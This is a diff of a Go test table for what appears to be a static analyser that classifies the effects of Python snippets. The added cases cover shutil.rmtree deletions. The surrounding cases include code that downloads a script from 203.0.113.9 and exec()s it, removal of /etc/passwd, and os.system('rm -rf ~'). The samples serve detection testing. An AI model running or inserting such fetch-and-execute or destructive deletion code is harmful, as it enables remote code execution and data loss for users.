@@ -161,6 +161,8 @@ clean("/etc/passwd")`, []string{"delete /etc/passwd"}},
 	{"python", "import requests\ndef get(u):\n    return requests.get(u).text\nexec(get(\"http://203.0.113.9/p.py\"))",
 		[]string{"connect http://203.0.113.9/p.py", "download http://203.0.113.9/p.py | python", "unknown"}},
 	{"python", "import os\ndef pick(x):\n    if x:\n        return \"/tmp/a\"\n    return \"/etc/passwd\"\nos.remove(pick(flag))", []string{"unknown"}},
+	{"python", "import shutil, os\ndef clean(p):\n    p = os.path.join(p, \"out\")\n    shutil.rmtree(p)\nif flag:\n    clean(\"build\")", []string{"delete -r /w/build/out"}},
+	{"python", "import shutil\nclass C:\n    def __init__(self):\n        self.root = \"/\"\n    def safe(self):\n        self.root = \"/tmp/x\"\n    def wipe(self):\n        shutil.rmtree(self.root)\nc = C()\nif flag:\n    c.safe()\nc.wipe()", []string{"unknown"}},
 	// not seen called, or called with a value not known: read with its
 	// parameters unknown, as before
 	{"python", "import threading, os\ndef worker(c):\n    os.system(c)\nthreading.Thread(target=worker, args=(\"rm -rf ~\",)).start()", []string{"unknown"}},
